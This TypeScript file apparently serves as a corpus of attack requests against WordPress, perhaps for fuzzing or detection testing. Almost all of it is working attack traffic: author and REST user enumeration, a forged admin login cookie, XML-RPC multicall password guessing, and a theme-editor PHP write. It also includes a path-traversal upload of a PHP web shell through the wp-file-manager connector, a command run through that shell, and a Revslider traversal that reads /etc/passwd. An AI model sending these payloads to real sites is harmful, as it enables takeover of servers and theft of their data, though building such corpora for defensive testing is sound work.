import { httpRequest } from '../http-request.ts'

const form = (target: string, body: string): Buffer =>
  httpRequest('POST', target, body, {
    'Content-Type': 'application/x-www-form-urlencoded',
    Cookie: 'wordpress_test_cookie=WP%20Cookie%20check; wordpress_logged_in_0=admin%7C9999999999%7Cx%7Cy',
  })
const upload = (target: string, name: string): Buffer =>
  httpRequest(
    'POST',
    target,
    `--b\r\nContent-Disposition: form-data; name="cmd"\r\n\r\nupload\r\n--b\r\nContent-Disposition: form-data; name="${name}"; filename="a/../s.php"\r\n\r\n<?php system($_GET["c"]);echo md5("1").(2*3);\r\n--b--\r\n`,
    { 'Content-Type': 'multipart/form-data; boundary=b' },
  )

/** Enumeration, logins by form, REST and XML-RPC, uploads, and the holes of plug-ins. */
export default [
  Buffer.concat(
    ['/', '/?author=1', '/?s=a&p=1', '/feed/', '/wp-sitemap-users-1.xml', '/2026/10/23/x/', '/about/'].map((path) =>
      httpRequest('GET', path),
    ),
  ),
  Buffer.concat(
    ['/wp-json/', '/wp-json/wp/v2/posts?per_page=2&page=2', '/?rest_route=/wp/v2/users/1', '/wp-json/oembed/1.0/embed?url=http://a/'].map(
      (path) => httpRequest('GET', path, '', { Authorization: 'Basic YWRtaW46eA==' }),
    ),
  ),
  form('/wp-login.php', 'log=admin&pwd=x&testcookie=1&redirect_to=/wp-admin/'),
  form('/wp-login.php?action=lostpassword', 'user_login=admin'),
  form('/wp-admin/theme-editor.php', 'file=404.php&theme=twentytwentyfive&newcontent=%3C%3Fphp'),
  form('/wp-comments-post.php', 'comment=http://x.example/y&comment_post_ID=1'),
  httpRequest(
    'POST',
    '/xmlrpc.php',
    '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value>admin</value><value><string>a&amp;b</string></value></data></array></value></member></struct></value></data></array></value></param></params></methodCall>',
  ),
  httpRequest(
    'POST',
    '/xmlrpc.php',
    '<methodCall><methodName>metaWeblog.newMediaObject</methodName><params><param><value><i4>1</i4></value></param><param><value>admin</value></param><param><value>x</value></param><param><value><struct><member><name>bits</name><value><base64>AAAA</base64></value></member></struct></value></param></params></methodCall>',
  ),
  upload('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', 'upload[]'),
  upload('/wp-admin/update.php?action=upload-plugin', 'pluginzip'),
  httpRequest('GET', '/wp-content/plugins/wp-file-manager/lib/files/s.php?c=id'),
  httpRequest('GET', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../../../etc/passwd'),
]
